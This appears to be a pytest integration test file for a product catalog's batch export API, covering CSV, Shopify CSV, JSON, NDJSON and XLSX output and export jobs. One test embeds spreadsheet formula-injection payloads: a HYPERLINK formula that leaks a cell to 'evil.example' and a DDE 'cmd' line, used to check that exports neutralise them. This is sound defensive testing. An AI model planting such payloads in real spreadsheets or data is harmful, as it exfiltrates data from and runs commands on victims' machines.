from __future__ import annotations

import csv
import io
import json
import re
import threading
import zipfile

import httpx
import pytest

from tests.batch.helpers import wait_job
from tests.product.factories import create_product

pytestmark = pytest.mark.integration

Headers = dict[str, str]

IMAGES = [
    {"src": "https://cdn.example.com/a.jpg", "alt": "Front"},
    {"src": "https://cdn.example.com/b.jpg", "alt": None},
    {"src": "https://cdn.example.com/c.jpg", "alt": 'Back, "quoted"'},
]


async def export(
    client: httpx.AsyncClient, headers: Headers, format: str, **selection: object
) -> httpx.Response:
    body = {"format": format, **(selection or {"filter": {}})}
    r = await client.post("/api/products/batch/export", json=body, headers=headers)
    assert r.status_code == 200, r.text
    return r


async def test_csv_has_one_row_per_variant(
    client: httpx.AsyncClient, editor_headers: Headers
) -> None:
    tee = await create_product(
        client, editor_headers, images=IMAGES, description_html="<p>a,b\nc</p>"
    )
    await create_product(client, editor_headers, title="Other", vendor="Else")
    r = await export(client, editor_headers, "csv", filter={"vendor": "Acme"})
    assert r.headers["content-type"].startswith("text/csv")
    assert "attachment" in r.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert [row["sku"] for row in rows] == ["CLA-S-RED", "CLA-M-RED"]
    first = rows[0]
    assert first["product_id"] == str(tee["id"]) and first["handle"] == "classic-tee"
    assert first["description_html"] == "<p>a,b\nc</p>"
    assert (first["option1_name"], first["option1_value"]) == ("Size", "S")
    assert (first["option2_name"], first["option2_value"]) == ("Color", "Red")
    assert rows[1]["compare_at_price"] == "25.00" and rows[1]["price"] == "21.50"
    assert first["tags"] == "cotton, summer"
    assert json.loads(first["images"]) == IMAGES


async def test_shopify_csv_rows_for_variants_and_extra_images(
    client: httpx.AsyncClient, editor_headers: Headers
) -> None:
    await create_product(client, editor_headers, images=IMAGES)
    await create_product(
        client,
        editor_headers,
        title="Gift Card",
        options=[],
        variants=[{"price": "10"}],
        status="draft",
    )
    r = await export(client, editor_headers, "shopify_csv", filter={})
    rows = list(csv.DictReader(io.StringIO(r.text)))
    tee = [row for row in rows if row["Handle"] == "classic-tee"]
    assert len(tee) == 3  # two variants, then the third image on its own row
    assert tee[0]["Title"] == "Classic Tee" and tee[1]["Title"] == "" and tee[2]["Title"] == ""
    assert tee[0]["Option1 Name"] == "Size" and tee[1]["Option1 Name"] == ""
    assert [row["Option1 Value"] for row in tee] == ["S", "M", ""]
    assert [row["Variant Price"] for row in tee] == ["19.99", "21.50", ""]
    assert [row["Image Src"] for row in tee] == [i["src"] for i in IMAGES]
    assert [row["Image Position"] for row in tee] == ["1", "2", "3"]
    assert tee[0]["Status"] == "active"
    # What the catalog never held is written empty, not as a default taken for a fact.
    never_held = ("Published", "Gift Card", "Variant Taxable", "Variant Inventory Tracker")
    assert [tee[0][column] for column in never_held] == ["", "", "", ""]
    assert tee[0]["Variant Requires Shipping"] == tee[0]["Variant Inventory Policy"] == ""
    (card,) = [row for row in rows if row["Handle"] == "gift-card"]
    assert (card["Option1 Name"], card["Option1 Value"]) == ("Title", "Default Title")
    assert card["Published"] == "" and card["Status"] == "draft"


async def test_json_and_ndjson(client: httpx.AsyncClient, editor_headers: Headers) -> None:
    ids = [(await create_product(client, editor_headers, title=f"P{i}"))["id"] for i in range(3)]
    r = await export(client, editor_headers, "json", product_ids=ids[:2])
    products = r.json()
    assert [p["id"] for p in products] == ids[:2]
    assert products[0]["variants"][0]["price"] == "19.99" and "synced_snapshot" in products[0]
    r = await export(client, editor_headers, "ndjson", filter={})
    lines = [json.loads(line) for line in r.text.splitlines()]
    assert [p["id"] for p in lines] == ids
    r = await export(client, editor_headers, "json", filter={"vendor": "nobody"})
    assert r.json() == []


def xlsx_rows(content: bytes) -> list[list[str]]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    return [re.findall(r"<c r=\"([A-Z]+)\d+\"", row) for row in re.findall(r"<row.*?</row>", sheet)]


async def test_xlsx(client: httpx.AsyncClient, editor_headers: Headers) -> None:
    await create_product(client, editor_headers)
    r = await export(client, editor_headers, "xlsx", filter={})
    assert r.headers["content-type"].startswith("application/vnd.openxmlformats")
    rows = xlsx_rows(r.content)
    assert len(rows) == 3  # header + two variants
    with zipfile.ZipFile(io.BytesIO(r.content)) as archive:
        # constant_memory mode writes strings inline, so they are in the sheet itself
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "CLA-M-RED" in sheet and "<v>21.5</v>" in sheet


async def test_large_export_runs_as_job(
    client: httpx.AsyncClient, editor_headers: Headers, viewer_headers: Headers
) -> None:
    for i in range(3):
        await create_product(client, editor_headers, title=f"P{i}")
    direct = await export(client, editor_headers, "csv", filter={})
    r = await client.post(
        "/api/products/batch/export",
        json={"format": "csv", "filter": {}, "as_job": True},
        headers=viewer_headers,
    )
    assert r.status_code == 202, r.text
    accepted = r.json()
    assert accepted["products"] == 3
    job = await wait_job(client, viewer_headers, accepted["job_id"])
    assert job["state"] == "completed", job
    assert job["report"]["products"] == 3 and job["report"]["rows"] == 6
    r = await client.get(accepted["download_url"], headers=viewer_headers)
    assert r.status_code == 200
    assert r.text == direct.text
    status = await client.get(f"/api/exports/{accepted['export_id']}", headers=viewer_headers)
    assert status.json()["state"] == "completed"
    r = await client.get("/api/exports/nope/download", headers=viewer_headers)
    assert r.status_code == 404


async def test_an_export_job_has_a_results_row_per_product_exported(
    client: httpx.AsyncClient, editor_headers: Headers
) -> None:
    products = [await create_product(client, editor_headers, title=f"Row {i}") for i in range(3)]
    left_out = await create_product(client, editor_headers, title="Not selected")
    r = await client.post(
        "/api/products/batch/export",
        json={"format": "csv", "product_ids": [p["id"] for p in products], "as_job": True},
        headers=editor_headers,
    )
    assert r.status_code == 202, r.text
    job = await wait_job(client, editor_headers, r.json()["job_id"])
    assert job["state"] == "completed", job

    rows = await client.get(f"/api/jobs/{job['id']}/results", headers=editor_headers)
    assert rows.status_code == 200, rows.text
    listed = rows.json()["items"]
    assert [(row["action"], row["product_id"], row["handle"]) for row in listed] == [
        ("exported", p["id"], p["handle"]) for p in products
    ]
    assert left_out["id"] not in {row["product_id"] for row in listed}
    summary = await client.get(f"/api/jobs/{job['id']}/results/summary", headers=editor_headers)
    assert summary.json()["counts"]["actions"] == {"exported": 3}
    file = await client.get(f"/api/jobs/{job['id']}/results.csv", headers=editor_headers)
    assert [line["handle"] for line in csv.DictReader(io.StringIO(file.text))] == [
        p["handle"] for p in products
    ]


FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


async def test_cells_a_spreadsheet_would_run_are_neutralised(
    client: httpx.AsyncClient, editor_headers: Headers
) -> None:
    await create_product(
        client,
        editor_headers,
        title=FORMULA_TITLE,
        vendor="@Acme",
        product_type="-Tees",
        description_html="+1+cmd|' /C calc'!A0",
    )
    ours = list(csv.DictReader(io.StringIO((await export(client, editor_headers, "csv")).text)))
    assert ours[0]["title"] == "'" + FORMULA_TITLE
    assert (ours[0]["vendor"], ours[0]["product_type"]) == ("'@Acme", "'-Tees")
    assert ours[0]["description_html"].startswith("'+1")
    assert ours[0]["price"] == "19.99"  # numbers stay numbers
    shopify = (await export(client, editor_headers, "shopify_csv")).text
    first = next(csv.DictReader(io.StringIO(shopify)))
    assert (first["Title"], first["Vendor"]) == ("'" + FORMULA_TITLE, "'@Acme")

    r = await client.post(
        "/api/products/batch/export",
        json={"format": "shopify_csv", "filter": {}, "protect_formulas": False},
        headers=editor_headers,
    )
    assert next(csv.DictReader(io.StringIO(r.text)))["Title"] == FORMULA_TITLE

    xlsx = (await export(client, editor_headers, "xlsx")).content
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # written as text, never as a formula
    assert "HYPERLINK" in sheet


async def test_neutralised_export_imports_back_unchanged(
    client: httpx.AsyncClient, editor_headers: Headers
) -> None:
    original = await create_product(
        client, editor_headers, title=FORMULA_TITLE, vendor="'=already quoted"
    )
    text = (await export(client, editor_headers, "csv")).text
    files = {"file": ("products.csv", text.encode(), "text/csv")}
    r = await client.post("/api/products/import", files=files, headers=editor_headers)
    assert r.status_code == 200, r.text
    product = (await client.get(f"/api/products/{original['id']}", headers=editor_headers)).json()
    assert (product["title"], product["vendor"]) == (FORMULA_TITLE, "'=already quoted")
    assert product["version"] == original["version"]  # nothing changed, so nothing was written


async def test_xlsx_is_encoded_off_the_event_loop(
    client: httpx.AsyncClient, editor_headers: Headers, monkeypatch: pytest.MonkeyPatch
) -> None:
    from xlsxwriter.worksheet import Worksheet

    threads: list[threading.Thread] = []
    write_row = Worksheet.write_row

    def recording(self: Worksheet, *args: object, **kwargs: object) -> object:
        threads.append(threading.current_thread())
        return write_row(self, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(Worksheet, "write_row", recording)
    await create_product(client, editor_headers)
    await export(client, editor_headers, "xlsx")
    chunk_rows = threads[1:]  # the header row is written before any chunk
    assert chunk_rows and threading.current_thread() not in chunk_rows
